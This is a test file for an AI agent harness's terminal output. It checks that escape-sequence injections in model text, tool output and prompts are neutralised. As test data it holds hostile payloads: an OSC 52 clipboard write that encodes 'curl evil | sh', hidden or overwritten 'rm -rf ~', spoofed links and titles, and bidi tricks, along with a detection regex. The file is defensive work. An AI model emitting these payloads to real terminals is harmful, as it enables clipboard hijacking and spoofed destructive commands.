// Attacks on the terminal through text harness did not write (issue 26, item 13): model text,
// reasoning, tool output and display lines, tool names, server errors, the approval prompts,
// trust prompts and the resume recap carry OSC 52 (clipboard write), OSC 0 (title), OSC 8
// (links), SGR 8 (hidden text), CSI through U+009B, bidi overrides and invisible characters.
// None reaches the terminal raw; harness's own colours still do.

import { deepStrictEqual as assertEquals, ok as assert } from "node:assert/strict";
import { createTextRenderer } from "../../src/ui/render_text.ts";
import { createStyle } from "../../src/ui/style.ts";
import { makeToolResult } from "../../src/messages.ts";
import { TerminalStreamFilter } from "../../src/platform/terminal_text.ts";
import { formatPermissionPrompt } from "../../src/ui/prompter.ts";
import { formatBatchPrompt } from "../../src/ui/batch_prompt.ts";
import { formatTranscript } from "../../src/ui/transcript.ts";
import { checkProjectTrust } from "../../src/permissions/project_trust.ts";
import { tempDir } from "../helpers/temp_dir.ts";

/** Each attack, as a model or a tool would send it. */
const ATTACKS: Record<string, string> = {
  "OSC 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
  "OSC 0 title": "\x1b]0;harness: all good\x07",
  "OSC 8 link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
  "SGR 8 hidden text": "\x1b[8mrm -rf ~\x1b[0m",
  "CSI through U+009B": "\u009b2J\u009b1;1H",
  "OSC through U+009D": "\u009d0;title\u009c",
  "a bidi override": "\u202eexe.gnp",
  "a bidi isolate": "\u2066hidden\u2069",
  "zero-width and tag characters": "r\u200bm \u{e0041}\u{e0042}",
  "a carriage return over the line": "safe\rrm -rf ~",
  "a backspace": "ls\b\b\brm",
};

/** Characters that must never reach the terminal raw from untrusted text. */
const RAW =
  // deno-lint-ignore no-control-regex
  /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u;

function checkClean(what: string, output: string): void {
  const found = RAW.exec(output);
  assert(
    found === null,
    `${what}: raw U+${found?.[0].codePointAt(0)?.toString(16)} in ${JSON.stringify(output)}`,
  );
}

for (const [name, attack] of Object.entries(ATTACKS)) {
  Deno.test(`the text renderer shows ${name} from a model or tool as escapes`, () => {
    const out: string[] = [];
    const renderer = createTextRenderer({
      write: (text) => out.push(text),
      note: (text) => out.push(text),
      style: createStyle(false),
      spinner: false,
      showReasoning: true,
    });
    renderer.sink({ type: "text_delta", text: `Answer ${attack}\n` });
    renderer.sink({ type: "reasoning_delta", text: `Thinking ${attack}\n` });
    renderer.sink({ type: "warning", message: `Plugin said ${attack}` });
    renderer.sink({
      type: "tool_finished",
      callId: "c1",
      name: `tool${attack}`,
      args: { command: attack },
      result: makeToolResult({ data: "x" }),
      display: `$ ${attack}`,
    });
    renderer.sink({
      type: "tool_finished",
      callId: "c2",
      name: "run_command",
      args: { command: "ls" },
      result: makeToolResult({ errorType: "io_error", errorMessage: `failed ${attack}` }),
      display: "",
    });
    renderer.sink({
      type: "permission_decided",
      callId: "c3",
      name: "run_command",
      args: {},
      decision: { decision: "deny", by: "policy", reason: `rule says ${attack}` },
    });
    renderer.sink({
      type: "done",
      stopReason: "error",
      text: "",
      errorMessage: `server ${attack}`,
    });
    renderer.stop();
    checkClean(name, out.join(""));
  });

  Deno.test(`the running tool line strips ${name} from tool output`, async () => {
    const notes: string[] = [];
    const renderer = createTextRenderer({
      write: () => {},
      note: (text) => notes.push(text),
      style: createStyle(false),
      spinner: true,
      showReasoning: false,
      columns: () => 200,
    });
    try {
      renderer.sink({
        type: "tool_started",
        callId: "c1",
        name: "run_command",
        args: { a: attack },
      });
      renderer.sink({
        type: "tool_output",
        callId: "c1",
        name: "run_command",
        text: `out ${attack}`,
      });
      await new Promise((resolve) => setTimeout(resolve, 150));
    } finally {
      renderer.stop();
    }
    // Harness's own clearing of the line is the only sequence left.
    checkClean(name, notes.join("").replaceAll("\r\x1b[2K", ""));
  });

  Deno.test(`the approval prompts show ${name} in a call as escapes`, () => {
    const request = {
      tool: `run_command${attack}`,
      args: { command: `${attack} ${"x".repeat(300)}` },
      risk: "high" as const,
      alwaysFile: "policies.jsonc",
      alwaysRule: { tool: "run_command", match: { command: attack }, action: "allow" as const },
    };
    checkClean(name, formatPermissionPrompt(request, { color: false }));
    checkClean(
      name,
      formatBatchPrompt([request, { ...request, args: { c: attack } }], { color: false }),
    );
  });

  Deno.test(`the resume recap shows ${name} as escapes`, () => {
    const text = formatTranscript([
      { kind: "user", content: `do it ${attack}` },
      { kind: "assistant", content: `done ${attack}`, data: {} },
      {
        kind: "tool_call",
        content: `run_command ${attack}`,
        data: { id: "1", name: "run_command", arguments: "{}" },
      },
    ], createStyle(false));
    checkClean(name, text);
  });
}

Deno.test("harness's own colours still reach the terminal around escaped text", () => {
  const out: string[] = [];
  const renderer = createTextRenderer({
    write: (text) => out.push(text),
    note: (text) => out.push(text),
    style: createStyle(true),
    spinner: false,
    showReasoning: false,
  });
  renderer.sink({
    type: "tool_finished",
    callId: "c1",
    name: "ls",
    args: {},
    result: makeToolResult({ data: "x" }),
    display: "\x1b[31mred",
  });
  const text = out.join("");
  assert(text.includes("\x1b[32m✓\x1b[0m") || text.includes("\x1b[32m✓"), JSON.stringify(text));
  assert(text.includes("\\x1b[31mred"), JSON.stringify(text));
});

Deno.test("the plugin trust prompt shows a hostile plugin file name as escapes", async () => {
  await using dir = await tempDir();
  const file = `${dir.path}/evil\x1b]0;trusted\x07\u202e.ts`;
  await Deno.writeTextFile(file, "export default {}");
  const out: string[] = [];
  await checkProjectTrust([file], {
    io: { readLine: () => Promise.resolve("n"), write: (text) => out.push(text) },
    interactive: true,
    storeFile: `${dir.path}/store.json`,
    cwd: dir.path,
  });
  checkClean("a plugin file name", out.join(""));
  assert(out.join("").includes("evil\\x1b]0;trusted\\x07\\u202e.ts"), out.join(""));
});

Deno.test("attack: TerminalStreamFilter keeps colours and drops every other sequence, cut anywhere", () => {
  const hostile = "a\x1b[1;31mred\x1b[0m\x1b]52;c;ZXZpbA==\x07b\x1b]8;;http://x\x1b\\link" +
    "\x1b]8;;\x1b\\\x1bP1$r\x1b\\\x1b[2J\x1b[H\u009b6n\x1b7\x07\x08c\r\u202eevil\u200b\n€";
  const expected = "a\x1b[1;31mred\x1b[0mblinkc\r\\u202eevil\\u200b\n€";
  const bytes = new TextEncoder().encode(hostile);
  for (let cut = 0; cut <= bytes.length; cut++) {
    const filter = new TerminalStreamFilter();
    const out = filter.push(bytes.subarray(0, cut)) + filter.push(bytes.subarray(cut)) +
      filter.end();
    assertEquals(out, expected, `cut at ${cut}`);
  }
});

Deno.test("attack: TerminalStreamFilter holds back no more than 4 KiB of an endless OSC", () => {
  const filter = new TerminalStreamFilter();
  let out = filter.push(new TextEncoder().encode("\x1b]52;c;"));
  for (let i = 0; i < 100; i++) out += filter.push(new TextEncoder().encode("A".repeat(1000)));
  out += filter.end();
  assert(!out.includes("\x1b"), "the sequence never reaches the terminal");
});
